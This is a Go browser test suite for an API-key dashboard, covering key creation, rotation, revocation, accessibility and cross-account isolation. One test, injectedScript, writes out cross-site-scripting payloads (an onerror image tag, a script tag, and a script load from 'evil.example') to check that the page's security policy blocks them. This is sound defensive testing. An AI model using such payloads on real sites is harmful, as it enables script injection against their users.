package browser

import (
	"context"
	_ "embed"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/cdproto/emulation"
	"github.com/chromedp/cdproto/fetch"
	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"
	"github.com/chromedp/chromedp/kb"

	"github.com/rekall-ai/gateway/internal/apikey"
	"github.com/rekall-ai/gateway/internal/devenv/pgtest"
	"github.com/rekall-ai/gateway/internal/keyadmin"
	"github.com/rekall-ai/gateway/test/eventually"
)

func TestDashboard(t *testing.T) {
	start(t)
	t.Run("walks", func(t *testing.T) {
		for name, walk := range map[string]func(*testing.T){
			"a key is created, copied and never shown again":   createAndCopy,
			"a form that was stopped can be sent again":        stopAndSend,
			"a form of a live page is sent once":               sendOnceLive,
			"a form outlives its session":                      formOutlivesSession,
			"a key is used, rotated and revoked at every edge": useRotateRevoke,
			"a live page is no use of its session":             livePage,
			"a live page keeps the focus and what is typed":    livePageInUse,
			"an order is applied when it is asked for":         order,
			"a spike of denied requests alone is marked":       deniedSpike,
			"forced colours keep what colours say":             forcedColours,
			"another account sees nothing":                     anotherAccount,
			"errors say what to do":                            errorStates,
			"the policy stops an injected script":              injectedScript,
			"everything works without JavaScript":              withoutJavaScript,
			"the keyboard alone is enough":                     keyboard,
			"every state looks well and is accessible":         states,
		} {
			t.Run(name, func(t *testing.T) {
				t.Parallel()
				walk(t)
			})
		}
	})
	if log := world.log.String(); apikey.ContainsKey(log) {
		t.Error("the gateways logged a key")
	}
}

func stopAndSend(t *testing.T) {
	b := newTab(t)
	b.signIn(key(t, "impatient", "Manager", true))
	b.click("a", "Create New Key")
	b.fill("#name", "Slow network")
	b.click("button", "Read only")
	sent, stop := context.WithTimeout(t.Context(), patience)
	defer stop()
	chromedp.ListenTarget(b.ctx, func(event any) {
		if _, ok := event.(*fetch.EventRequestPaused); ok {
			stop()
		}
	})
	b.run(fetch.Enable())
	b.click("button[@id='generate']", "Generate")
	<-sent.Done()
	b.run(page.StopLoading(), fetch.Disable())
	b.holds("the form is ready again", `!sent.has(document.querySelector("form[data-once]"))`)
	b.click("button[@id='generate']", "Generate")
	b.secret()
}

// sendOnceLive presses a button again once its page has changed by itself, of a form that stood there and of one that came by then.
func sendOnceLive(t *testing.T) {
	b := newTab(t)
	b.signIn(key(t, "hasty", "Manager", true))
	for _, came := range []bool{false, true} {
		old := key(t, "hasty", "Old", false)
		rotation := keyadmin.RotateRequest{Overlap: keyadmin.Overlap{For: time.Hour}}
		successor, _, err := world.admin.Rotate(t.Context(), keyadmin.Operator("test"), old.ID, rotation)
		if err != nil {
			t.Fatal(err)
		}
		b.open("/" + old.ID)
		b.see("h2", "Being rotated")
		if came {
			if _, err := world.admin.Revoke(t.Context(), keyadmin.Operator("test"), successor.ID); err != nil {
				t.Fatal(err)
			}
			b.see("h2", "Nothing takes over")
		}
		// The page stays, as it does until a slow answer comes.
		b.run(chromedp.Evaluate(`window.stopped = []; addEventListener("submit", (event) => { stopped.push(event.defaultPrevented); event.preventDefault(); })`, nil))
		b.click("button", "Undo rotation")
		b.holds("the form is sent", `stopped.join() === "false"`)
		if !came {
			call(t, "GET", "/v1/memories", old.Key.Reveal())
			b.see("p", "Old key 1")
		}
		b.click("button", "Undo rotation")
		b.holds("the form is submitted again", `stopped.length === 2`)
		var stopped []bool
		if b.run(chromedp.Evaluate(`stopped`, &stopped)); !stopped[1] {
			t.Errorf("a form is sent twice; it came by itself: %t", came)
		}
	}
}

func formOutlivesSession(t *testing.T) {
	manager := key(t, "lunch", "Manager", true)
	for _, withoutScripts := range []bool{false, true} {
		b := newTab(t)
		b.run(emulation.SetScriptExecutionDisabled(withoutScripts))
		b.signIn(manager)
		b.open("/new")
		b.fill("#name", "After lunch")
		b.check(`input[value="hives:write"]`)
		b.check(`input[value="30d"]`)
		b.run(network.ClearBrowserCookies())
		b.click("button[@id='generate']", "Generate")
		b.see("p", "it is filled in as you left it")
		b.fill("#key", manager.Key.Reveal())
		b.click("button", "Sign in")
		b.see("h1", "Create New Key")
		b.run(chromedp.WaitReady(`#name[value="After lunch"]`, chromedp.ByQuery), chromedp.WaitReady(`input[value="hives:write"]:checked`, chromedp.ByQuery),
			chromedp.WaitReady(`input[value="30d"]:checked`, chromedp.ByQuery))
		b.click("button[@id='generate']", "Generate")
		if secret := b.secret(); call(t, "GET", "/v1/hives", secret) != 403 || call(t, "POST", "/v1/hives", secret) != 200 {
			t.Error("the key does not do what it was made for")
		}
	}
}

func createAndCopy(t *testing.T) {
	b := newTab(t)
	manager := key(t, "creator", "Manager", true)
	b.allowClipboard()
	b.signIn(manager)
	b.click("a", "Create New Key")
	b.fill("#name", "Production Backend")
	b.click("button", "Read only")
	b.check(`input[value="memories:write"]`)
	b.click("button[@id='generate']", "Generate")
	secret := b.secret()
	b.click("button", "Copy")
	b.see("p", "Copied.")
	var pasted string
	b.run(chromedp.Evaluate(`navigator.clipboard.readText()`, &pasted, awaitPromise))
	if pasted != secret {
		t.Error("what was copied is not the key")
	}
	if strings.Contains(b.location(), secret) {
		t.Error("the address has the key")
	}
	b.open("")
	for _, again := range []struct {
		what string
		do   func()
	}{{"back", b.back}, {"reload", func() { b.run(chromedp.Reload()) }}} {
		again.do()
		b.see("h1", "Production Backend")
		if strings.Contains(b.html(), secret) {
			t.Errorf("%s shows the key again", again.what)
		}
	}
	var stored string
	b.run(chromedp.Evaluate(`JSON.stringify([{...localStorage}, {...sessionStorage}, document.cookie, history.state, performance.getEntries().map(e => e.name)])`, &stored))
	if apikey.ContainsKey(stored) || strings.Contains(stored, "rekall-session") {
		t.Errorf("scripts can read %s", apikey.Redact(stored))
	}
	page, err := world.admin.List(t.Context(), keyadmin.Operator("test"), keyadmin.ListRequest{Account: "creator", Name: "Production Backend"})
	if err != nil || len(page.Keys) != 1 {
		t.Fatalf("%d keys, error %v", len(page.Keys), err)
	}
	want := "memories:read memories:write entities:read relationships:read workflows:read agents:read hives:read"
	if got := strings.Join(page.Keys[0].Scopes, " "); got != want {
		t.Errorf("scopes %s, want %s", got, want)
	}
	if call(t, "GET", "/v1/memories", secret) != 200 || call(t, "DELETE", "/v1/memories/m", secret) != 403 {
		t.Error("the key does not do what it was made for")
	}
}

func useRotateRevoke(t *testing.T) {
	b := newTab(t)
	manager, used := key(t, "life", "Manager", true), key(t, "life", "Used", false)
	b.signIn(manager)
	for range 3 {
		if status := call(t, "GET", "/v1/memories", used.Key.Reveal()); status != 200 {
			t.Fatalf("status %d", status)
		}
	}
	eventually.True(t, "the page counts the requests", func() bool {
		b.open("/" + used.ID)
		return strings.Contains(b.html(), "<b>3</b> allowed")
	})
	b.click("a", "Rotate")
	b.check(`input[value="1d"]`)
	b.click("button", "Rotate")
	successor := b.secret()
	b.click("a", "I have copied it")
	b.see("h2", "Being rotated")
	b.see("p", "New key 0")
	if status := call(t, "GET", "/v1/memories", successor); status != 200 {
		t.Fatalf("status %d", status)
	}
	b.see("p", "New key 1")       // by itself
	b.click("a", "Undo rotation") // it is in use by now
	b.fill("#name", "Used")
	b.click("button", "Undo rotation")
	b.see("p", "The rotation is undone")
	b.click("a", "Revoke")
	b.fill("#name", "Used")
	b.click("button", "Revoke")
	for _, edge := range []string{"north", "south"} {
		b.see("li[contains(., '"+edge+"')]", "confirmed after")
	}
	b.see("h2", "No edge that reports allows this key")
	eventually.True(t, "the key is refused", func() bool { return call(t, "GET", "/v1/memories", used.Key.Reveal()) == 401 })

	b.open("/" + manager.ID + "/revoke")
	b.see("p", "You signed in with this key")
	b.fill("#name", manager.ID)
	b.click("button", "Revoke")
	b.see("h1", "Sign in")
}

// livePage leaves a page open that shows what changes by itself.
func livePage(t *testing.T) {
	b := newTab(t)
	manager, old := key(t, "idle", "Manager", true), key(t, "idle", "Old", false)
	rotation := keyadmin.RotateRequest{Overlap: keyadmin.Overlap{For: time.Hour}}
	if _, _, err := world.admin.Rotate(t.Context(), keyadmin.Operator("test"), old.ID, rotation); err != nil {
		t.Fatal(err)
	}
	polls := make(chan network.Headers, 1)
	chromedp.ListenTarget(b.ctx, func(event any) {
		if sent, ok := event.(*network.EventRequestWillBeSent); ok && sent.Type == network.ResourceTypeXHR {
			select {
			case polls <- sent.Request.Headers:
			default:
			}
		}
	})
	b.run(network.Enable())
	b.signIn(manager)
	b.open("/" + old.ID)
	b.run(chromedp.Evaluate(`window.waits = []; const later = setTimeout; setTimeout = (f, wait) => { waits.push(wait); return later(f, wait); }`, nil))
	b.holds("it asks every second", `waits.includes(1000)`)
	b.run(chromedp.Evaluate(`performance.now = () => 90001`, nil))
	b.holds("it asks less often once it is old", `waits.includes(10000)`)
	select {
	case headers := <-polls:
		if headers["X-Rekall-Poll"] != "1" {
			t.Errorf("the page asks as a person would: %v", headers)
		}
	case <-time.After(patience):
		t.Fatal("the page is not live")
	}
	if _, err := world.admin.Revoke(t.Context(), keyadmin.Operator("test"), manager.ID); err != nil {
		t.Fatal(err)
	}
	b.see("h1", "Sign in")
}

// livePageInUse changes what a page shows while its visitor works on it.
func livePageInUse(t *testing.T) {
	b := newTab(t)
	manager, old, moving := key(t, "working", "Manager", true), key(t, "working", "Old", false), key(t, "working", "Moving", false)
	rotate := func(old keyadmin.Key) string {
		overlap := keyadmin.Overlap{OnFirstUse: true, For: 24 * time.Hour}
		successor, _, err := world.admin.Rotate(t.Context(), keyadmin.Operator("test"), old.ID, keyadmin.RotateRequest{Overlap: overlap})
		if err != nil {
			t.Fatal(err)
		}
		return successor.Key.Reveal()
	}
	successor, moved := rotate(old), rotate(moving)
	b.signIn(manager)
	b.open("/" + moving.ID)
	b.see("p", "Neither key was used")
	call(t, "GET", "/v1/memories", moved)
	b.holds("what changed is told", `document.querySelector("[role=status]#news").textContent === "All traffic has moved to the new key."`)

	b.open("/" + old.ID)
	b.see("p", "Neither key was used")
	b.run(chromedp.Focus("#rotation button", chromedp.ByQuery))
	call(t, "GET", "/v1/memories", old.Key.Reveal())
	b.see("p", "Old key 1")
	b.holds("the focus stays", `document.activeElement.textContent === "Undo rotation"`)
	b.fill("input[name=name]", "Half typed")
	call(t, "GET", "/v1/memories", successor)
	b.see("section[@id='about']", "in 24 hours")
	b.see("div[@id='rotation']", "This key ends in 24 hours")
	if _, _, err := world.admin.UndoRotation(t.Context(), keyadmin.Operator("test"), old.ID); err != nil {
		t.Fatal(err)
	}
	b.see("a", "Rotate")
	b.see("section[@id='history']", "Rotation undone")
	b.holds("the name stays", `document.querySelector("input[name=name]").value === "Half typed"`)

	rotate(old)
	b.open("/" + old.ID)
	b.fill("input[name=name]", "Half typed")
	if _, err := world.admin.Revoke(t.Context(), keyadmin.Operator("test"), manager.ID); err != nil {
		t.Fatal(err)
	}
	b.see("p[@role='status']", "Your session has ended")
	b.holds("the name stays", `document.querySelector("input[name=name]").value === "Half typed"`)
	b.click("button", "Save")
	b.see("p", "nothing was changed")
}

func order(t *testing.T) {
	b := newTab(t)
	b.signIn(key(t, "order", "Manager", true))
	b.run(chromedp.Focus("select[name=sort]", chromedp.ByQuery), chromedp.KeyEvent(kb.ArrowDown), chromedp.KeyEvent(kb.ArrowDown))
	b.click("button", "Apply")
	eventually.True(t, "the list is in the order that was chosen", func() bool { return strings.Contains(b.location(), "sort=last-used") })
}

func deniedSpike(t *testing.T) {
	b := newTab(t)
	attacked := key(t, "attacked", "Attacked", false)
	pgtest.Exec(t, world.database, `
with counted as (
	insert into rekall.usage (key_id, hour, outcome, count)
	select $1, date_trunc('hour', now()) - interval '1 hour' * n, 'scope_insufficient', 500 from generate_series(1, 2) n returning key_id, hour)
insert into rekall.spikes (key_id, hour, threshold) select key_id, max(hour), 300 from counted group by key_id`, attacked.ID)
	b.signIn(key(t, "attacked", "Manager", true))
	b.open("/" + attacked.ID)
	for _, scheme := range []string{"light", "dark"} {
		b.run(emulation.SetEmulatedMedia().WithFeatures([]*emulation.MediaFeature{{Name: "prefers-color-scheme", Value: scheme}}))
		var colours []string
		b.run(chromedp.Evaluate(`[...document.querySelectorAll(".chart rect")].map((bar) => getComputedStyle(bar).fill)`, &colours))
		if len(colours) != 2 || colours[0] == colours[1] {
			t.Errorf("%s: the bars of a usual hour and of a spike are %v", scheme, colours)
		}
	}
}

func forcedColours(t *testing.T) {
	b := newTab(t)
	used := key(t, "contrast", "Used", false)
	pgtest.Exec(t, world.database, `
insert into rekall.usage (key_id, hour, outcome, count)
select $1, date_trunc('hour', now()), outcome, 500 from unnest(array['allowed', 'scope_insufficient']) outcome`, used.ID)
	b.signIn(key(t, "contrast", "Manager", true))
	b.run(emulation.SetEmulatedMedia().WithFeatures([]*emulation.MediaFeature{{Name: "forced-colors", Value: "active"}}))
	b.open("/" + used.ID)
	b.run(chromedp.Evaluate(`window.style = (selector) => getComputedStyle(document.querySelector(selector))`, nil))
	for what, is := range map[string]string{
		"the legend has the colour of what was allowed": `style("i.key-new").backgroundColor === style(".chart .allowed").fill`,
		"the legend has the colour of what was denied":  `style("i.key-denied").backgroundColor === style(".chart .denied").fill`,
		"the range that is shown is marked":             `style(".switch a[aria-current]").borderStyle === "solid"`,
	} {
		var holds bool
		if b.run(chromedp.Evaluate(is, &holds)); !holds {
			t.Errorf("not so: %s", what)
		}
	}
}

func anotherAccount(t *testing.T) {
	b := newTab(t)
	theirs := key(t, "victim", "Secret Project", false)
	b.signIn(key(t, "stranger", "Manager", true))
	if strings.Contains(b.html(), "Secret Project") {
		t.Error("the list shows another account's key")
	}
	for _, path := range []string{"", "/revoke", "/rotate"} {
		b.open("/" + theirs.ID + path)
		b.see("h1", "Not found")
	}
	b.click("button", "Sign out")
	b.see("h1", "Sign in")
}

func errorStates(t *testing.T) {
	b := newTab(t)
	b.open("")
	b.fill("#key", apikey.Generate(apikey.Production))
	b.click("button", "Sign in")
	b.see("p", "not valid")
	b.fill("#key", key(t, "errors", "Plain", false).Key.Reveal())
	b.click("button", "Sign in")
	b.see("p", "may not manage keys")
	b.signIn(key(t, "errors", "Manager", true))
	b.open("/new")
	b.fill("#name", "Typed")
	b.click("button[@id='generate']", "Generate")
	b.seeProblem("Choose at least one scope.", "scopes")
	b.see("h1", "Create New Key")
	var typed string
	b.run(chromedp.Value("#name", &typed, chromedp.ByQuery))
	if typed != "Typed" {
		t.Errorf("the name became %q", typed)
	}
	b.click("button", "Everything")
	b.check(`input[value="date"]`)
	b.click("button[@id='generate']", "Generate")
	b.seeProblem("Expiry needs a date.", "date")
	b.run(chromedp.EmulateViewport(390, 844))
	b.click("button[@id='generate']", "Generate")
	b.seeProblem("Expiry needs a date.", "date")
	b.open("/nothing")
	b.see("h1", "Not found")
}

// seeProblem waits until a form shows what is wrong, on the screen and with the cursor in the field.
func (b *tab) seeProblem(text, field string) {
	b.t.Helper()
	eventually.True(b.t, "the problem of "+field+" is on the screen", func() (shown bool) {
		b.run(chromedp.Evaluate(fmt.Sprintf(`(() => {
			const problem = document.getElementById("problem");
			if (!problem || problem.textContent !== %q || document.activeElement.id !== %q || !document.title.startsWith("Error: ")) return false;
			const { top, bottom } = problem.getBoundingClientRect();
			return top >= 0 && bottom <= innerHeight;
		})()`, text, field), &shown))
		return shown
	})
}

func injectedScript(t *testing.T) {
	b := newTab(t)
	b.expected = true
	name := `<img src=x onerror="window.pwned=1"><script>window.pwned=1</script>`
	manager := key(t, "injected", name, true)
	b.signIn(manager)
	b.open("/" + manager.ID)
	b.see("h1", "<script>")
	var outcome []string
	b.run(chromedp.Evaluate(`(async () => {
		const outcome = [];
		const blocked = new Promise(done => addEventListener("securitypolicyviolation", e => { if (e.effectiveDirective.startsWith("script-src")) done(e.effectiveDirective); }));
		try { document.body.innerHTML = "<img src=x onerror='window.pwned=1'>"; outcome.push("html was taken"); } catch (e) { outcome.push(e.name); }
		const image = document.createElement("img");
		image.src = "/settings/api-keys/nothing";
		try { image.setAttribute("onerror", "window.pwned=1"); document.body.append(image); } catch (e) { outcome.push(e.name); }
		const script = document.createElement("script");
		try { script.src = "https://evil.example/x.js"; document.body.append(script); } catch (e) { outcome.push(e.name); }
		const policy = document.createElement("iframe");
		document.body.append(policy);
		await Promise.race([blocked, new Promise(done => setTimeout(done, 200))]);
		outcome.push(String(window.pwned));
		return outcome;
	})()`, &outcome, awaitPromise))
	if got := strings.Join(outcome, " "); got != "TypeError TypeError TypeError undefined" {
		t.Errorf("injected scripts met %s", got)
	}
}

func withoutJavaScript(t *testing.T) {
	b := newTab(t)
	b.run(emulation.SetScriptExecutionDisabled(true))
	b.signIn(key(t, "plain", "Manager", true))
	b.open("/new")
	b.fill("#name", "No script")
	b.click("button", "Read only")
	b.run(chromedp.WaitReady(`input[value="hives:read"][checked]`, chromedp.ByQuery))
	b.click("button[@id='generate']", "Generate")
	secret := b.secret()
	if call(t, "GET", "/v1/memories", secret) != 200 || call(t, "POST", "/v1/memories", secret) != 403 {
		t.Error("the key does not do what it was made for")
	}
	b.click("a", "I have copied it")
	b.see("h1", "No script")
	b.back()
	if strings.Contains(b.html(), secret) {
		t.Error("back shows the key again")
	}
	b.open("?q=script")
	b.click("a", "No script")
	b.click("a", "Revoke")
	b.fill("#name", "No script")
	b.click("button", "Revoke")
	b.see("p", "The key is revoked")
}

// keyboard walks with Tab and Enter only.
func keyboard(t *testing.T) {
	b := newTab(t)
	manager := key(t, "keyboard", "Manager", true)
	b.open("")
	b.awaitFocus()
	b.run(chromedp.KeyEvent(manager.Key.Reveal()), chromedp.KeyEvent("\r"))
	b.see("h1", "API Keys")
	tabTo := func(text string) {
		t.Helper()
		for range 30 {
			var focused string
			b.run(chromedp.KeyEvent("\t"), chromedp.Evaluate(`document.activeElement.textContent`, &focused))
			if strings.Contains(focused, text) {
				return
			}
		}
		t.Fatalf("Tab does not reach %q", text)
	}
	tabTo("Create New Key")
	b.run(chromedp.KeyEvent("\r"))
	b.see("h1", "Create New Key")
	b.awaitFocus()
	b.run(chromedp.KeyEvent("By hand"))
	tabTo("Read only")
	b.run(chromedp.KeyEvent(" "))
	tabTo("Generate")
	b.run(chromedp.KeyEvent("\r"))
	b.secret()
}

// BenchmarkFirstPaint says how long after a click on a link the list of some keys is first painted.
func BenchmarkFirstPaint(b *testing.B) {
	start(b)
	tab := newTab(b)
	tab.signIn(key(b, "painter", "Manager", true))
	for i := range 20 {
		key(b, "painter", fmt.Sprintf("Key %d", i), false)
	}
	var sum float64
	for b.Loop() {
		var at float64
		tab.open("")
		tab.see("h1", "API Keys")
		tab.run(chromedp.Evaluate(`new Promise(done => new PerformanceObserver((list, observer) => {
			observer.disconnect();
			done(list.getEntriesByName("first-contentful-paint")[0].startTime);
		}).observe({type: "paint", buffered: true}))`, &at, awaitPromise))
		sum += at
	}
	b.ReportMetric(sum/float64(b.N), "ms/first-paint")
}

//go:embed testdata/axe.min.js
var axe string

// artifacts is where screenshots are kept, for people to look at.
const artifacts = "REKALL_TEST_ARTIFACTS"

// states shows the main states in light, dark and on a phone, has axe look for what is not accessible, and keeps pictures.
func states(t *testing.T) {
	dir := os.Getenv(artifacts)
	if dir == "" {
		dir = t.TempDir()
	}
	if err := os.MkdirAll(dir, 0o700); err != nil {
		t.Fatal(err)
	}
	b := newTab(t)
	var width, height int64
	look := func(name string) {
		t.Helper()
		var problems []string
		b.run(chromedp.Evaluate(axe+"\n;void 0", nil), chromedp.Evaluate(`axe.run().then(r => r.violations.filter(v => ["serious", "critical"].includes(v.impact)).map(v => v.id + ": " + v.nodes.map(n => n.html + " " + n.failureSummary).join("; ")))`, &problems, awaitPromise))
		for _, problem := range problems {
			t.Errorf("%s: %s", name, problem)
		}
		// Those of a small phone, of tablets, and of the picture; a window that is zoomed has fewer pixels too.
		for _, width := range []int64{320, 834, 1024, 1112, width} {
			var wider, beside bool
			b.run(chromedp.EmulateViewport(width, height), chromedp.Evaluate(`document.documentElement.scrollWidth > innerWidth`, &wider),
				chromedp.Evaluate(`[...document.querySelectorAll(".keys .name")].some(cell => cell.lastElementChild.offsetTop <= cell.firstElementChild.offsetTop)`, &beside))
			if wider {
				t.Errorf("%s is wider than a screen of %d pixels", name, width)
			}
			if beside {
				t.Errorf("%s: a key takes the place of its name on a screen of %d pixels", name, width)
			}
		}
		var picture []byte
		b.run(chromedp.ActionFunc(func(ctx context.Context) error { return chromedp.FullScreenshot(&picture, 100).Do(ctx) }))
		if err := os.WriteFile(filepath.Join(dir, name+".png"), picture, 0o600); err != nil {
			t.Fatal(err)
		}
	}
	manager, busy := furnish(t, "Acme Inc.")
	for _, mode := range []struct {
		name, scheme  string
		width, height int64
	}{{"light", "light", 1280, 860}, {"dark", "dark", 1280, 860}, {"phone", "light", 390, 844}} {
		width, height = mode.width, mode.height
		b.run(chromedp.EmulateViewport(width, height),
			emulation.SetEmulatedMedia().WithFeatures([]*emulation.MediaFeature{{Name: "prefers-color-scheme", Value: mode.scheme}}))
		b.open("")
		b.see("h1", "Sign in")
		look(mode.name + "-sign-in")
		b.signIn(manager)
		look(mode.name + "-list")
		b.open("/" + busy)
		look(mode.name + "-key")
		b.open("?environment=sandbox")
		look(mode.name + "-empty")
		b.open("/new")
		b.click("button", "Read only")
		look(mode.name + "-new")
		b.fill("#name", "Staging importer")
		b.click("button", "None")
		b.click("button[@id='generate']", "Generate")
		b.see("p", "Choose at least one scope.")
		look(mode.name + "-problem")
		b.click("button", "Read only")
		b.click("button[@id='generate']", "Generate")
		b.secret()
		look(mode.name + "-created")
		b.click("a", "I have copied it")
		b.click("a", "Rotate")
		look(mode.name + "-rotate")
		b.click("button", "Rotate")
		b.secret()
		b.click("a", "I have copied it")
		b.see("h2", "Being rotated")
		look(mode.name + "-rotating")
		b.click("a", "Revoke")
		look(mode.name + "-revoke")
		b.fill("#name", "Staging importer")
		b.click("button", "Revoke")
		b.see("h2", "No edge that reports allows this key")
		look(mode.name + "-revoked")
		b.open("/nothing")
		look(mode.name + "-not-found")
		b.click("button", "Sign out")
		b.see("h1", "Sign in")
	}
}

// furnish makes an account as a real one looks, and returns a managing key and the id of the busiest one.
func furnish(t *testing.T, account string) (manager keyadmin.Key, busy string) {
	t.Helper()
	manager = key(t, account, "Dashboard", true)
	for i, one := range []struct {
		name, expiresIn string
		scopes          []string
		perHour, days   int
	}{
		{"Old importer", "", []string{"memories:write"}, 9, 6},
		{"Nightly export", "9d", []string{"memories:read", "entities:read"}, 25, 7},
		{"مساعد الدعم", "365d", []string{"agents:read", "agents:write"}, 60, 7},
		{"Notebook of the research team, which has a name that is longer than anybody would like to read in a list", "90d", []string{"memories:read"}, 0, 0},
		{"Production Backend", "90d", []string{"memories:read", "memories:write", "entities:read", "relationships:read"}, 900, 30},
	} {
		made, _, err := world.admin.Create(t.Context(), keyadmin.Operator("ann"), keyadmin.CreateRequest{
			Name: one.name, Account: account, Environment: "production", Scopes: one.scopes, ExpiresIn: one.expiresIn,
		})
		if err != nil {
			t.Fatal(err)
		}
		// Only a picture needs keys that were made long ago: the database refuses to change when a key was made.
		pgtest.Exec(t, world.database, fmt.Sprintf(`do $$ begin
	alter table rekall.api_keys disable trigger stamp;
	update rekall.api_keys set created_at = now() - interval '%d days' where id = '%s';
	alter table rekall.api_keys enable always trigger stamp;
end $$`, 40-i*7, made.ID))
		if one.days == 0 {
			continue
		}
		pgtest.Exec(t, world.database, `
insert into rekall.usage (key_id, hour, outcome, count)
select $1, date_trunc('hour', now()) - interval '1 hour' * n, 'allowed', ($2 * (1.2 + sin(n * 0.2618) + (n * 7919 % 13) * 0.04))::bigint + 1 from generate_series(0, $3 * 24) n`,
			made.ID, one.perHour, one.days)
		pgtest.Exec(t, world.database, `
insert into rekall.last_used (key_id, first_used_at, last_used_at) values ($1, now() - interval '30 days', now() - interval '1 minute' * $2)`, made.ID, 3+i*40)
		busy = made.ID
	}
	pgtest.Exec(t, world.database, `
insert into rekall.usage (key_id, hour, outcome, count) values ($1, date_trunc('hour', now()) - interval '31 hours', 'scope_insufficient', 2140),
	($1, date_trunc('hour', now()) - interval '50 hours', 'scope_insufficient', 310), ($1, date_trunc('hour', now()) - interval '12 hours', 'rate_limited', 95)`, busy)
	pgtest.Exec(t, world.database, `insert into rekall.spikes (key_id, hour, threshold) values ($1, date_trunc('hour', now()) - interval '31 hours', 3000)`, busy)
	page, err := world.admin.List(t.Context(), keyadmin.Operator("ann"), keyadmin.ListRequest{Account: account, Name: "Old importer"})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := world.admin.Revoke(t.Context(), keyadmin.Operator("ann"), page.Keys[0].ID); err != nil {
		t.Fatal(err)
	}
	return manager, busy
}
